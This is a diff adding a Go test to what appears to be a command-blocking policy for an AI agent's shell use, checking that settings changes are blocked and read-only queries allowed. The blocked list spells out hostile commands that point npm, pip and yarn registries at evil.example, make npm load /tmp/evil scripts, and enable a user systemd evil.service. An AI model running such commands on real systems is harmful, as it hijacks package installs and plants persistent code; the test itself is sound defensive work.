@@ -181,3 +181,40 @@ func TestRed4HardLinkWritten(t *testing.T) {
 		}
 	}
 }
+
+// TestRed4SettingsCommands: the commands that write the package managers'
+// and the user service manager's settings, as git config --global writes
+// ~/.gitconfig.
+func TestRed4SettingsCommands(t *testing.T) {
+	t.Parallel()
+	p := mustMerge(t, "", "")
+	for _, cmd := range []string{
+		"npm config set script-shell /tmp/evil",
+		"npm set node-options=--require=/tmp/evil.js",
+		"npm config edit",
+		"pip config set global.index-url http://evil.example/simple",
+		"pip3 config --user set global.index-url http://evil.example/simple",
+		"python3 -m pip config set global.index-url http://evil.example/simple",
+		"yarn config set registry http://evil.example",
+		"yarn config set --home npmRegistryServer http://evil.example",
+		"systemctl --user link /home/u/proj/evil.service",
+		"systemctl --user enable /home/u/proj/evil.service",
+		"systemctl --user enable --now evil.service",
+	} {
+		if d := p.Decide(call("bash", "command", cmd), testFacts()); d.Action != ActionBlock {
+			t.Errorf("bash %q: %s %s, want a block", cmd, d.Action, d.Code)
+		}
+	}
+	for _, cmd := range []string{
+		"npm config get registry",
+		"npm config list",
+		"pip config list",
+		"yarn config get registry",
+		"systemctl --user status foo",
+		"npm test",
+	} {
+		if d := p.Decide(call("bash", "command", cmd), testFacts()); d.Action != ActionAllow {
+			t.Errorf("control bash %q: %s %s (%s), want it allowed", cmd, d.Action, d.Code, d.Reason)
+		}
+	}
+}
